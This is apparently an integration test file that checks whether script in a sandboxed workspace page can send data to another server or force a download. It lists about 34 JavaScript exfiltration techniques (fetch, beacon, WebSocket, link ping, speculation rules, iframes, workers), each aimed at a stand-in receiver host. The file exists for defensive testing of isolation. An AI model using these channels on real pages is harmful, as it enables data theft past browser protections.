"""Every way by which a page's script could carry data to another server, tried in a workspace's page in Chromium.

Each is first done on a page without any policy, in the same browser, and must arrive: a form that does not work by
itself would prove nothing.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext

from tests.integration.gate.browsing import SECONDS, UNKNOWING, Receiver, browsing, do
from tests.integration.gate.harness import ZoneUnderTest
from tests.integration.gate.test_gate_frozen import Place
from tests.integration.gate.test_gate_origins_in_chromium import signed_in, workspace
from tests.patience import PATIENCE

pytestmark = [pytest.mark.browser, pytest.mark.long]

RULES = (
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify("
    "{{%s: [{{urls: ['{0}'], eagerness: 'immediate'}}]}}); document.body.append(s)"
)
WAYS_OUT = {
    "location": "window.location = '{0}'",
    "location_top": "window.top.location = '{0}'",
    "location_parent": "window.parent.location = '{0}'",
    "open": "window.open('{0}')",
    "link_top": "const a = add('a'); a.href = '{0}'; a.target = '_top'; a.click()",
    "link_ping": "const a = add('a'); a.href = '#x'; a.ping = '{0}'; a.click()",
    "form": "const f = add('form'); f.action = '{0}'; f.submit()",
    "form_blank": "const f = add('form'); f.action = '{0}'; f.target = '_blank'; f.submit()",
    "meta": "const m = add('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={0}'",
    "image": "new Image().src = '{0}'",
    "fetch": "fetch('{0}', {{mode: 'no-cors'}}).catch(() => 0)",
    "websocket": "new WebSocket('{0}'.replace('http', 'ws'))",
    "frame": "add('iframe').src = '{0}'",
    "frame_location": "add('iframe').contentWindow.location = '{0}'",
    "frame_top": "add('iframe').contentWindow.eval(\"top.location = '{0}'\")",
    "frame_outer": "add('iframe').contentWindow.eval(\"parent.location = '{0}'\")",
    "beacon": "navigator.sendBeacon('{0}', 'x')",
    "style": "const l = add('link'); l.rel = 'stylesheet'; l.href = '{0}'",
    "preload": "const l = add('link'); l.rel = 'preload'; l.as = 'fetch'; l.crossOrigin = ''; l.href = '{0}'",
    "prefetch": "const l = add('link'); l.rel = 'prefetch'; l.href = '{0}'",
    "module_preload": "const l = add('link'); l.rel = 'modulepreload'; l.href = '{0}'",
    "rules_prefetch": RULES % "prefetch",
    "rules_prerender": RULES % "prerender",
    "script": "add('script').src = '{0}'",
    "import": "import('{0}').catch(() => 0)",
    "request": "const x = new XMLHttpRequest(); x.open('GET', '{0}'); x.send()",
    "event_source": "new EventSource('{0}')",
    "keep_alive": "fetch('{0}', {{mode: 'no-cors', keepalive: true}}).catch(() => 0)",
    "style_import": "add('style').textContent = \"@import '{0}'\"",
    "font": "new FontFace('x', \"url('{0}')\").load().catch(() => 0)",
    "video": "const v = add('video'); v.poster = '{0}'; v.src = '{0}'",
    "object": "const o = add('object'); o.data = '{0}'",
    "embed": "const o = add('embed'); o.src = '{0}'",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('{0}', {{mode: 'no-cors'}})\"])))",
}
DOWNLOADS = {
    "blob": "const a = add('a'); a.href = URL.createObjectURL(new Blob(['row'])); a.download = 'x.csv'; a.click()",
    "data": "const a = add('a'); a.href = 'data:text/csv,row'; a.download = 'x.csv'; a.click()",
}


@pytest.fixture(params=[[], [UNKNOWING]], ids=["as_it_is", "without_allow_lists"])
async def opened(
    bare_zone: ZoneUnderTest, tmp_path: Path, request: pytest.FixtureRequest
) -> AsyncIterator[tuple[BrowserContext, Place]]:
    """The workspace that eve has and a browser: as it is, and one that has no other wall than the frame and the content
    security policy.
    """
    place = await workspace(bare_zone, "eve", "gibleed")
    async with browsing(tmp_path, *request.param) as context:
        yield context, place
    place.hostile.stop()
    bare_zone.control("DELETE", f"/workspaces/{place.ref}", {"reason": "test"})


async def test_no_script_of_a_workspace_reaches_another_server(
    bare_zone: ZoneUnderTest, opened: tuple[BrowserContext, Place], receiver: Receiver
) -> None:
    context, place = opened
    address = f"http://elsewhere.localhost:{receiver.server_port}"
    unproven = set()
    for name, way in WAYS_OUT.items():
        page = await receiver.page(context)
        await do(page, way.format(f"{address}/control/{name}"))
        try:
            async with asyncio.timeout(PATIENCE / 10):
                while f"/control/{name}" not in receiver.calls:  # noqa: ASYNC110 — it tells nobody
                    await asyncio.sleep(0.02)
        except TimeoutError:
            unproven.add(name)
        await page.close()
    assert unproven == set()
    for name, way in WAYS_OUT.items():
        await place.hostile.dial(4)  # a page that is closed takes its connections with it
        page, frame = await signed_in(context, bare_zone, place)
        await do(frame, way.format(f"{address}/out/{name}"))
        await asyncio.sleep(0.2)
        await page.close()
    await asyncio.sleep(SECONDS)
    assert {call for call in receiver.calls if call.startswith("/out/")} == set()


@pytest.mark.parametrize("name", DOWNLOADS)
async def test_no_script_of_a_workspace_leaves_a_file_on_the_machine(
    bare_zone: ZoneUnderTest, opened: tuple[BrowserContext, Place], receiver: Receiver, name: str
) -> None:
    context, place = opened
    page = await receiver.page(context)
    async with page.expect_download(timeout=PATIENCE * 1000):
        await do(page, DOWNLOADS[name])
    left: list[object] = []
    page, frame = await signed_in(context, bare_zone, place)
    page.on("download", lambda download: left.append(download))
    await do(frame, DOWNLOADS[name])
    await asyncio.sleep(SECONDS)
    assert left == []
